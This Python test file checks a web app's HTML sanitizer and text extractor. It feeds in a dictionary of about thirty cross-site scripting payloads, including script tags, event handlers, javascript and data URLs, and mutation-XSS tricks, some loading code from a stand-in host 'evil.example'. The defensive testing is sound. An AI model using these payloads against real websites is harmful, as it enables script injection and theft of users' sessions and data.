"""Whatever somebody writes as HTML, only what the list allows comes out of `clean`, and only words out of `text_of`."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.errors import Refused
from core.html import ALLOWED_ATTRIBUTES, ALLOWED_PROTOCOLS, ALLOWED_TAGS, MAX_ELEMENTS, clean, text_of
from tests.architecture.house import APPS, ROOT

HOSTILE = {
    "script": "<p>Câu<script>alert(1)</script> hỏi</p>",
    "script in upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script left open": "<p>a<script>alert(1)",
    "style": "<style>@import 'https://evil.example/x.css';</style><p style='background:url(javascript:alert(1))'>a</p>",
    "svg that loads": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg with a link": "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "picture that fails": "<img src=x onerror=alert(1)>",
    "picture without a space": "<img/src=x/onerror=alert(1)>",
    "javascript address": "<a href='javascript:alert(1)'>a</a>",
    "javascript address in pieces": "<a href='jav&#x09;ascript&colon;alert(1)'>a</a><a href=' &#14; javascript:alert(1)'>b</a>",
    "vbscript": "<a href='VbScRiPt:msgbox(1)'>a</a>",
    "data address": "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a><a href=' d&#9;ata:text/html,x'>b</a>",
    "data picture": "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "form": "<form action=//evil.example><input name=password><button formaction='javascript:alert(1)'>a</button></form>",
    "base and meta": "<base href=//evil.example/><meta http-equiv=refresh content='0;url=javascript:alert(1)'><link rel=stylesheet href=x>",
    "broken tag": "<p><img src='x' onerror='alert(1)' <b>a</p",
    "comment": "<!--><img src=x onerror=alert(1)>--><!-- a --!><script>alert(1)</script>",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation by svg": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "mutation by a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation by xmp": '<noembed><xmp><p title="</xmp><img src=x onerror=alert(1)>"></noembed>',
    "mutation by a textarea": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "backtick": "<img alt=``onerror=alert(1) src=x>",
    "NUL": "<scr\x00ipt>alert(1)</scr\x00ipt><a href='java\x00script:alert(1)'>a</a>",
    "nested lists": "<ul><li><ul><li><img src=x onerror=alert(1)>",
}  # fmt: skip


class Allowed(HTMLParser):
    """Fails for anything that is not on the list."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED_TAGS
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, []) or name in ALLOWED_ATTRIBUTES["*"], name
            if name in ("href", "src"):
                bare = re.sub(r"[\x00-\x20]", "", value or "")
                assert urlsplit(bare).scheme.lower() in {*ALLOWED_PROTOCOLS, ""}
                assert not re.match(r"(?i)(java|vb)script:|data:", bare)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_allowed(html: str) -> None:
    made = clean(html)
    parser = Allowed()
    parser.feed(made)
    parser.close()
    assert clean(made) == made  # read again, it is the same: nothing in it turns into something else


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_hostile_html_keeps_nothing_but_what_is_allowed(html):
    assert_allowed(html)


PIECES = [*HOSTILE.values(), *(f"<{tag}>" for tag in sorted(ALLOWED_TAGS)), "</p>", "</b>", "</table>", "<", ">", '"', "'", "&lt;", "x", "<!--", "-->"]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=8).map("".join))
def test_nor_does_any_mixture_of_it(html):
    assert_allowed(html)


def test_what_is_allowed_stays():
    html = '<p lang="ja">10<sup>6</sup> <a href="https://example.org/">細胞</a></p><ul><li><b>a</b></li></ul>'

    assert clean(html) == html


def test_words_stay_and_scripts_go_whole():
    assert text_of("<p>Câu<script>alert(1)</script> hỏi <font color=red>đỏ</font></p>") == "Câu hỏi đỏ"


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("10<sup>6</sup> và H<sub>2</sub>O, x<sup>ab</sup>", "10⁶ và H₂O, x^(ab)"),
        ("<p>một</p><p>hai<br>ba", "một\nhai\nba"),
        ("<ul><li>a<li>b</ul>", "– a\n– b"),
        ("<table><tr><td>37</td><td>°C</td></tr></table>", "37 | °C"),
        ("Ct &lt; 35 &amp; a < b&nbsp;&nbsp;c", "Ct < 35 & a < b c"),
        ("&lt;b&gt; là một thẻ", "<b> là một thẻ"),
        ("", ""),
    ],
)
def test_what_carries_meaning_becomes_text(html, text):
    assert text_of(html) == text


def test_more_markup_than_any_text_has_is_refused():
    assert text_of("<p>" * MAX_ELEMENTS) == ""
    with pytest.raises(Refused):
        clean("<div>" * (MAX_ELEMENTS + 1))


def test_foreign_html_is_cleaned_in_one_place():
    using = {
        path.relative_to(ROOT).as_posix()
        for app in APPS
        for path in (ROOT / app).rglob("*.py")
        if re.search(r"^(from|import) (bleach|html5lib|lxml\.html|nh3)\b", path.read_text(), re.MULTILINE)
    }

    assert using == {"core/html.py"}
